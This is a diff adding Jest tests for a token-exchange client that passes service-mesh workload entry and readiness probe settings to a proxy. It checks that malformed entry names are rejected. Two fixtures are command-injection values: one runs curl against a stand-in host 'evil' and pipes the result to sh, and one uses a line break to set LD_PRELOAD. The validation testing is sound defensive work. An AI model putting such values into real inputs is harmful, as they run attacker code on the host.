@@ -100,6 +100,24 @@ describe('postExchange', () => {
     expect(await post()).toMatchObject({ kind: 'unavailable', code: 'MALFORMED_ANSWER', ...(message ? { message } : {}) });
   });
 
+  it("passes on what the proxy must declare: the answer's entry and the group's probe", async () => {
+    const readinessProbe = { periodSeconds: 5, tcpSocket: { host: '127.0.0.1', port: 8080 } };
+    answer = { status: 200, body: { token: 'a.b.c', expiresAt: '2026-03-01T13:00:00Z', workloadEntry: { namespace: 'bookinfo', name: 'ratings-0123' }, readinessProbe } };
+
+    expect(await post()).toEqual({ kind: 'issued', token: 'a.b.c', expiresAt: new Date('2026-03-01T13:00:00Z'), proxy: { workloadEntry: { namespace: 'bookinfo', name: 'ratings-0123' }, readinessProbe } });
+  });
+
+  it.each([
+    { case: 'a shell command', name: 'ratings-1;curl${IFS}evil|sh' },
+    { case: 'a line break', name: 'ratings-1\nLD_PRELOAD=/tmp/x.so' },
+    { case: 'upper case', name: 'Ratings-1' },
+    { case: 'an empty name', name: '' },
+  ])('refuses an entry name with $case (it goes into a file a shell sources): a malformed answer, nothing written', async ({ name }) => {
+    answer = { status: 200, body: { token: 'a.b.c', expiresAt: '2026-03-01T13:00:00Z', workloadEntry: { namespace: 'bookinfo', name } } };
+
+    expect(await post()).toMatchObject({ kind: 'unavailable', code: 'MALFORMED_ANSWER', message: expect.stringContaining('workloadEntry.name') });
+  });
+
   it('trusts the configured root certs for https', async () => {
     answer = { status: 200, body: { token: 'a.b.c', expiresAt: '2026-03-01T13:00:00Z' } };
 
